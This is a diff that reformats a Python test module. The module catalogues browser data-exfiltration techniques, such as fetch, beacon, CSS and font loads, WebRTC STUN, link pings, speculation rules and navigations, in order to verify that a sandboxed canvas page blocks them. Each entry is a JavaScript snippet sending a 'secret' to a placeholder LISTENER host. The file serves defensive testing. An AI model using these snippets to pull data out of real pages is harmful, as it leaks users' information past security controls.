@@ -1,7 +1,7 @@
 """Ways out of a page: requests and navigations by which a hostile canvas would send data to another port.
 
-Each way has its name in its request, so that a listener knows which one arrived. From an unprotected page they do arrive,
-which proves that the listener would notice them.
+Each way has its name in its request, so that a listener knows which one arrived. From an unprotected page
+they do arrive, which proves that the listener would notice them.
 """
 
 from __future__ import annotations
@@ -19,13 +19,19 @@ _REQUEST = re.compile(rb"^[A-Z]+ /(?:way-)?([\w-]+)")
 # All from one page. LISTENER is the address of the listener without a scheme, UDP_PORT its UDP port.
 PASSIVE_WAYS: dict[str, str] = {
     "fetch": "fetch('http://LISTENER/way-fetch', {mode: 'no-cors'})",
-    "fetch-keepalive": "fetch('http://LISTENER/way-fetch-keepalive', {mode: 'no-cors', keepalive: true, method: 'POST', body: 'secret'})",
+    "fetch-keepalive": (
+        "fetch('http://LISTENER/way-fetch-keepalive', {mode: 'no-cors', keepalive: true, method: 'POST', "
+        "body: 'secret'})"
+    ),
     "xhr": "{ const x = new XMLHttpRequest(); x.open('POST', 'http://LISTENER/way-xhr'); x.send('secret') }",
     "beacon": "navigator.sendBeacon('http://LISTENER/way-beacon', 'secret')",
     "img": "new Image().src = 'http://LISTENER/way-img'",
     "css": "add('style', {textContent: 'body { background: url(http://LISTENER/way-css) }'})",
     "css-import": "add('style', {textContent: '@import \"http://LISTENER/way-css-import\"'})",
-    "font": "add('style', {textContent: '@font-face { font-family: f; src: url(http://LISTENER/way-font) } body { font-family: f }'}), add('p', {textContent: 'x'})",
+    "font": (
+        "add('style', {textContent: '@font-face { font-family: f; src: url(http://LISTENER/way-font) } body "
+        "{ font-family: f }'}), add('p', {textContent: 'x'})"
+    ),
     "stylesheet": "add('link', {rel: 'stylesheet', href: 'http://LISTENER/way-stylesheet'})",
     "video": "add('video', {src: 'http://LISTENER/way-video', preload: 'auto'})",
     "audio": "add('audio', {src: 'http://LISTENER/way-audio', preload: 'auto'})",
@@ -44,7 +50,10 @@ PASSIVE_WAYS: dict[str, str] = {
     "modulepreload": "add('link', {rel: 'modulepreload', href: 'http://LISTENER/way-modulepreload'})",
     "icon": "add('link', {rel: 'icon', href: 'http://LISTENER/way-icon'})",
     "svg-image": "svg('<image href=\"http://LISTENER/way-svg-image\" width=9 height=9 />')",
-    "image-set": "add('div', {style: 'width: 9px; height: 9px; background-image: image-set(\"http://LISTENER/way-image-set\" 1x)'})",
+    "image-set": (
+        "add('div', {style: 'width: 9px; height: 9px; background-image: "
+        'image-set("http://LISTENER/way-image-set" 1x)\'})'
+    ),
     "picture": "add('img', {srcset: 'http://LISTENER/way-picture 1x'})",
     "poster": "add('video', {poster: 'http://LISTENER/way-poster'})",
     "stun": "rtc('stun:127.0.0.1:UDP_PORT')",
@@ -52,9 +61,13 @@ PASSIVE_WAYS: dict[str, str] = {
     "preconnect": "add('link', {rel: 'preconnect', href: 'http://LISTENER/'})",
     "dns-prefetch": "add('link', {rel: 'dns-prefetch', href: 'http://LISTENER/'})",
     "ping": "add('a', {href: '#', ping: 'http://LISTENER/way-ping'}).click()",
-    "speculation": 'add(\'script\', {type: \'speculationrules\', textContent: \'{"prefetch":[{"source":"list","urls":["http://LISTENER/way-speculation"]}]}\'})',
+    "speculation": (
+        "add('script', {type: 'speculationrules', textContent: "
+        '\'{"prefetch":[{"source":"list","urls":["http://LISTENER/way-speculation"]}]}\'})'
+    ),
 }
-# Only `Connection-Allowlist` blocks these; the other ways are blocked by the policy, the sandbox and `frame-src` too.
+# Only `Connection-Allowlist` blocks these; the other ways are blocked by the policy, the sandbox and
+# `frame-src` too.
 # (The SDK removes WebRTC from the page itself, but not from a frame inside of it.)
 ALLOWLIST_ONLY_WAYS = frozenset({"stun", "turn", "preconnect", "dns-prefetch"})
 # Each in a page of its own, because it leaves the page.
@@ -70,7 +83,9 @@ NAVIGATION_WAYS: dict[str, str] = {
     "form-blank": "submit('POST', '_blank')",
     "open": "window.open('http://LISTENER/way-open?secret')",
     "link": "add('a', {href: 'http://LISTENER/way-link?secret', textContent: 'x'}).click()",
-    "link-blank": "add('a', {href: 'http://LISTENER/way-link-blank', target: '_blank', textContent: 'x'}).click()",
+    "link-blank": (
+        "add('a', {href: 'http://LISTENER/way-link-blank', target: '_blank', textContent: 'x'}).click()"
+    ),
     "link-top": "add('a', {href: 'http://LISTENER/way-link-top', target: '_top', textContent: 'x'}).click()",
     "download": "add('a', {href: 'http://LISTENER/way-download', download: 'x', textContent: 'x'}).click()",
     "document-open": "window.open('http://LISTENER/way-document-open', '_self')",
